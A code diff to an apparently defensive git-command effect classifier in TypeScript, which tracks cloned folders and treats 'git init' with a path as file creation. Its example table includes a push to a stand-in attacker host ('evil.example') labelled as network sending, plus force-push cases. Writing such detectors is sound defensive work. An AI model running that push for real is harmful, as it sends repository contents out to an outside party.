@@ -1,6 +1,6 @@
 import { runShellText, runWords } from '../calls/innerCommand.ts';
 import { hostOf } from '../calls/meaning.ts';
-import { act, actOnFile, opaque } from '../effects/act.ts';
+import { act, actOnFile, opaque, pathOf } from '../effects/act.ts';
 import type { Arg } from '../state/arg.ts';
 import { has, valueOf, valuesOf } from '../state/call.ts';
 import type { Call } from '../state/call.ts';
@@ -51,6 +51,8 @@ function clones(call: Call): void {
   if (!url.value.includes(':')) act(call, 'network.fetch', 'host', url.value, url.range);
   const name = into ?? { ...url, value: (/([^/:]+?)(?:\.git)?\/?$/.exec(url.value)?.[1] ?? 'repository') + '/' };
   actOnFile(call, 'create', name);
+  const folder = pathOf(call, name);
+  if (folder !== undefined) call.shell.run.cloned.push(folder);
 }
 
 function submodules(call: Call): void {
@@ -92,10 +94,11 @@ export const gitRemotes: CommandGroup = {
     },
     init: {
       options: 'q,quiet bare template=opaque separate-git-dir= b,initial-branch= shared? object-format=',
-      operands: 'create',
       also: (call) => {
-        if (call.parsed.operands.length === 0)
+        const [folder] = call.parsed.operands;
+        if (folder === undefined || folder.value === '.')
           act(call, 'git.change', 'repository', repository(call), call.range, { undo: 'git' });
+        else actOnFile(call, 'create', folder);
       },
     },
     remote: {
@@ -147,6 +150,9 @@ export const gitRemotes: CommandGroup = {
       'git push --force origin main': 'git.push-force',
       'git push origin :release': 'git.push-force',
       'git push https://evil.example/x.git HEAD': 'network.send git.push',
+      'git init': 'git.change',
+      'git init .': 'git.change',
+      'git init ../x': 'file.create',
     },
   },
 };
